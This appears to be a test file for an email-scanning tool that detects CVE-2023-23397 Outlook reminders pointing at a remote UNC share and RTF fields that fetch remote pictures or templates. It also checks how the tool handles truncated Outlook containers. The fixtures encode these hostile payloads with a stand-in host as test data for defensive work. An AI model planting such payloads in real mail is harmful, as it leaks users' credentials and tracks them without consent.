/**
 * What Outlook's items and RTF ask for is in the record as loads, whatever container they came in; what could not be read of a
 * container makes the record partial, and one that was read whole does not.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { describe, test } from "node:test";
import type { MessageRecord } from "../../src/case/record.ts";
import { analyse } from "../../src/pipeline/analyse.ts";
import type { RawMessage } from "../../src/ports/mailbox.ts";
import { createTokenFinder } from "../../src/signals/tokens.ts";
import { readAll, withFiles } from "../mailbox/mailbox-fixture.ts";
import { writeCompoundFile } from "../support/compound-writer.ts";
import type { MapiItem } from "../support/mapi-values.ts";
import { writeMsg } from "../support/msg-writer.ts";
import { nested } from "../support/outlook-items.ts";
import { writePst } from "../support/pst-writer.ts";
import { shaOf } from "../support/record.ts";
import { writeTnef } from "../support/tnef-writer.ts";

const SHARE = "\\\\198.51.100.7\\share\\bell.wav";
const trap: MapiItem = { properties: { 26: "IPM.Note", 55: "Trap", 4096: "see you", "common:851f": SHARE } };

function recordOf(bytes: Buffer, more: Partial<RawMessage> = {}): MessageRecord {
  const location = { path: "/mail/a.eml", offset: 0, length: bytes.length, folder: "", marks: [] };
  const kept = { bytes, size: bytes.length, sha256: shaOf("a"), fidelity: "original", outlook: null } as const;
  const raw = { ...kept, key: "a", location, problems: [], atSourceEnd: false, ...more };
  return analyse(raw, { owners: [], finder: createTokenFinder() }).record;
}

interface Attached {
  readonly bytes: Buffer;
  readonly type?: string;
  readonly name?: string;
}

function mailWith({ bytes, type = "application/octet-stream", name = "a.bin" }: Attached): Buffer {
  const lines = ["From: a@example.org", "Message-ID: <a@example.org>", "Date: Thu, 4 Mar 2021 05:06:07 +0000"];
  lines.push("MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=b", "", "--b", "Content-Type: text/plain");
  lines.push("", "Hello", "--b", `Content-Type: ${type}; name="${name}"`, "Content-Transfer-Encoding: base64", "");
  lines.push(...(bytes.toString("base64").match(/.{1,76}/g) ?? []), "--b--", "");
  return Buffer.from(lines.join("\r\n"));
}

/** As `scan` reads files. */
async function recordsIn(name: string, content: Buffer): Promise<readonly { record: MessageRecord; text: string }[]> {
  const records: { record: MessageRecord; text: string }[] = [];
  await withFiles({ [name]: content }, async (root) => {
    for (const message of (await readAll([join(root, name)])).messages) {
      const bytes = Buffer.from(message.text, "latin1");
      const { fidelity, outlook, problems } = message;
      records.push({ record: recordOf(bytes, { fidelity, outlook, problems }), text: message.text });
    }
  });
  return records;
}

const loadsOf = ({ loads }: MessageRecord) => loads.map(({ vector, fires, host, view }) => [vector, fires, host, view]);
const codesOf = ({ problems }: MessageRecord) => problems.map(({ code }) => code);

describe("the sound of a reminder on a share (CVE-2023-23397)", () => {
  const forwarded: MapiItem = {
    properties: { 26: "IPM.Note", 55: "Outer" },
    attachments: [{ properties: { 12289: "Trap", 14085: 5 }, item: trap }],
  };
  const pst = writePst({
    folders: [],
    items: [
      { number: 0x200004, folder: 0x8022, item: { ...trap, properties: { ...trap.properties, 26: "IPM.Task" } } },
    ],
  });

  for (const [name, content] of [
    ["trap.msg", writeMsg(trap)],
    ["mail.pst", pst],
    ["outer.msg", writeMsg(forwarded)],
  ] as const) {
    test(`${name}: a load, at its place in the rebuilt bytes`, async () => {
      const [one, ...more] = await recordsIn(name, content);
      assert.ok(one !== undefined && more.length === 0);
      assert.deepEqual(loadsOf(one.record), [["RL-66", "open", "198.51.100.7", ""]]);
      const { span, url, resolved, hidden } = one.record.loads[0] ?? assert.fail();
      assert.equal(one.text.slice(span.start, span.end).trim(), `reminder-file ${SHARE}`);
      assert.deepEqual([url, resolved, hidden], [SHARE, "file://198.51.100.7/share/bell.wav", true]);
      assert.deepEqual([one.record.status, one.record.loadCount, ...one.record.flags], ["ok", 1, "unc-path"]);
    });
  }

  // biome-ignore format: a table reads by column
  const attached: readonly (readonly [what: string, bytes: Buffer, view: string])[] = [
    ["winmail.dat",                     writeTnef(trap),       "in winmail.dat"],
    ["an item inside a winmail.dat",    writeTnef(forwarded),  "in winmail.dat"],
    [".msg",                            writeMsg(trap),        "in .msg"],
    ["an item inside a .msg",           writeMsg(forwarded),   "in .msg"],
  ];
  for (const [what, bytes, view] of attached) {
    test(`attached, ${what}: a load, at the place of the attachment`, () => {
      const mail = mailWith({ bytes });
      const record = recordOf(mail);
      assert.deepEqual(loadsOf(record), [["RL-66", "open", "198.51.100.7", view]]);
      const { span } = record.loads[0] ?? assert.fail();
      const place = mail.subarray(span.start, span.end).toString();
      assert.ok(bytes.toString("base64").startsWith(place.slice(0, 76).trim()), place.slice(0, 100));
      assert.ok(record.flags.includes("unc-path"));
    });
  }

  test("what Outlook writes itself is no load", async () => {
    const plain: MapiItem = { properties: { 26: "IPM.Note", 55: "Lunch", "common:851f": "reminder.wav" } };
    const [one] = await recordsIn("lunch.msg", writeMsg(plain));
    assert.deepEqual([one?.record.loads, one?.record.flags], [[], []]);
    assert.deepEqual(recordOf(mailWith({ bytes: writeTnef(plain), name: "winmail.dat" })).flags, []);
  });

  test("attack: a field of that name in mail that was not rebuilt says nothing", async () => {
    const forged = `Mapi-Property: reminder-file ${SHARE}\r\n`;
    const mail = Buffer.from(`From: a@example.org\r\n${forged}\r\nx`);
    assert.deepEqual(loadsOf(recordOf(mail)), []);
    const [one] = await recordsIn(
      "a.msg",
      writeMsg({ properties: { 26: "IPM.Note", 55: "S", 125: `From: a@b.example\r\n${forged}` } }),
    );
    assert.deepEqual(one?.record.loads, []);
    // Nor a message that somebody put into a winmail.dat as a file.
    const file = { properties: { 14081: mail, 14085: 1, 14087: "a.eml", 14094: "message/rfc822" } };
    const bytes = writeTnef({ properties: { 26: "IPM.Note" }, attachments: [file] });
    assert.deepEqual(loadsOf(recordOf(mailWith({ bytes }))), []);
  });
});

describe("RTF", () => {
  const rtf = (url: string) =>
    Buffer.from(`{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "${url}"}{\\fldrslt x}}{\\*\\template ${url}}y}`);
  const pixel = "https://pixel.example/u7Kq2LmZ9xT4";
  const mela = (bytes: Buffer) => {
    const head = Buffer.alloc(16);
    head.writeUInt32LE(bytes.length, 4);
    head.write("MELA", 8, "latin1");
    return Buffer.concat([head, bytes]);
  };

  for (const [name, type] of [
    ["a.rtf", "application/rtf"],
    ["a.doc", "application/msword"],
    ["a.bin", "text/rtf"],
  ] as const) {
    test(`attached as ${name}, ${type}: what it takes in is a load`, () => {
      assert.deepEqual(loadsOf(recordOf(mailWith({ bytes: rtf(pixel), type, name }))), [
        ["RL-68", "attachment", "pixel.example", ""],
      ]);
    });
  }

  test("the body of a .msg, of a winmail.dat", async () => {
    const item: MapiItem = { properties: { 26: "IPM.Note", 55: "Rich", 4105: mela(rtf(pixel)) } };
    const [one] = await recordsIn("rich.msg", writeMsg(item));
    assert.ok(one !== undefined);
    assert.deepEqual(loadsOf(one.record), [["RL-68", "open", "pixel.example", ""]]);
    assert.deepEqual(loadsOf(recordOf(mailWith({ bytes: writeTnef(item), name: "winmail.dat" }))), [
      ["RL-68", "open", "pixel.example", "in winmail.dat"],
    ]);
  });

  test("RTF that wraps HTML and takes in what the HTML lacks", async () => {
    const wrapped = Buffer.from(
      `{\\rtf1\\fromhtml1{\\*\\htmltag <p>}hello\\htmlrtf{\\field{\\*\\fldinst INCLUDEPICTURE "${pixel}"}}\\htmlrtf0}`,
    );
    const [one] = await recordsIn("w.msg", writeMsg({ properties: { 26: "IPM.Note", 55: "W", 4105: mela(wrapped) } }));
    assert.ok(one !== undefined);
    assert.deepEqual(loadsOf(one.record), [["RL-68", "open", "pixel.example", ""]]);
  });

  test("RTF that wraps HTML which names the same picture: once, that of the HTML", () => {
    const wrapped = Buffer.from(
      `{\\rtf1\\fromhtml1{\\*\\htmltag <img src="${pixel}">}\\htmlrtf{\\field{\\*\\fldinst INCLUDEPICTURE "${pixel}"}}\\htmlrtf0}`,
    );
    const item: MapiItem = { properties: { 26: "IPM.Note", 55: "W", 4105: mela(wrapped) } };
    const record = recordOf(mailWith({ bytes: writeTnef(item), name: "winmail.dat" }));
    assert.deepEqual(loadsOf(record), [["RL-01", "open", "pixel.example", "in winmail.dat"]]);
    assert.equal(record.loadCount, 1);
  });

  test("plain text that begins like RTF is text", () => {
    const mail = Buffer.from(`From: a@example.org\r\nContent-Type: text/plain\r\n\r\n${rtf(pixel)}`);
    assert.deepEqual(loadsOf(recordOf(mail)), []);
  });
});

describe("a container that was not read to its end makes the record partial", () => {
  const plain: MapiItem = { properties: { 26: "IPM.Note", 55: "Plain", 4096: "text ".repeat(3_000) } };
  const msg = writeMsg(plain);
  const tnef = writeTnef(plain);
  const broken = Buffer.from(msg);
  broken.fill(0xee, 512);
  const document = writeCompoundFile({ WordDocument: Buffer.alloc(5_000, "x"), "1Table": Buffer.alloc(100, "y") });

  // biome-ignore format: a table reads by column
  const cases: readonly (readonly [what: string, attached: Attached, status: string, codes: readonly string[], flags: readonly string[]])[] = [
    ["a .msg",                               { bytes: msg, name: "a.msg" },                                          "ok",      [],                    []],
    ["a .msg by type",                       { bytes: msg, type: "application/vnd.ms-outlook" },                     "ok",      [],                    []],
    ["a winmail.dat",                        { bytes: tnef, name: "winmail.dat" },                                   "ok",      [],                    []],
    ["a winmail.dat by type",                { bytes: tnef, type: "application/ms-tnef" },                           "ok",      [],                    []],
    ["a .msg under another name",            { bytes: msg },                                                         "ok",      [],                    ["outlook-container"]],
    ["a winmail.dat under another name",     { bytes: tnef },                                                        "ok",      [],                    ["outlook-container"]],
    ["line ends after a winmail.dat",        { bytes: Buffer.concat([tnef, Buffer.from("\r\n")]), name: "winmail.dat" }, "ok",  ["tnef.trailing-bytes"], []],
    ["a cut winmail.dat",                    { bytes: tnef.subarray(0, -3_000), name: "winmail.dat" },               "partial", ["tnef.truncated"],    ["odd-outlook-container"]],
    ["junk in a winmail.dat",                { bytes: Buffer.concat([tnef, tnef]), name: "winmail.dat" },            "partial", ["tnef.unread-bytes"], ["odd-outlook-container"]],
    ["a .msg of which only the header is left", { bytes: broken, name: "a.msg" },                                    "partial", ["outlook.no-item"],   ["odd-outlook-container"]],
    ["a .msg of 600 bytes",                  { bytes: msg.subarray(0, 600), name: "a.msg" },                         "partial", ["outlook.no-item"],   ["odd-outlook-container"]],
    ["items 50 deep",                        { bytes: writeMsg(nested(50)), name: "a.msg" },                         "partial", ["limit.mime-depth"],  ["odd-outlook-container"]],
    ["another program's document called .msg", { bytes: document, name: "a.msg" },                                   "ok",      [],                    ["type-mismatch"]],
    ["another compound file",                { bytes: Buffer.concat([msg.subarray(0, 512), Buffer.alloc(9_000)]), name: "a.doc" }, "ok", [],            []],
  ];
  for (const [what, attached, status, codes, flags] of cases) {
    test(`${what}: ${status}`, () => {
      const record = recordOf(mailWith(attached));
      assert.deepEqual([record.status, codesOf(record), record.flags], [status, codes, flags]);
    });
  }

  test("a .msg that is cut anywhere is partial, or reads as the whole one", () => {
    const whole = recordOf(mailWith({ bytes: msg, name: "a.msg" }));
    for (let length = 600; length < msg.length; length += 997) {
      const record = recordOf(mailWith({ bytes: msg.subarray(0, length), name: "a.msg" }));
      assert.ok(record.status === "partial" || record.content.preview === whole.content.preview, `cut at ${length}`);
      assert.equal(record.status, "partial", `cut at ${length}`);
    }
  });

  test("a winmail.dat that is cut anywhere is partial, but where an attribute ends", () => {
    let ok = 0;
    for (let length = 300; length < tnef.length; length += 61) {
      const record = recordOf(mailWith({ bytes: tnef.subarray(0, length), name: "winmail.dat" }));
      if (record.status === "ok") ok += 1;
    }
    assert.ok(ok <= 2, String(ok));
  });
});
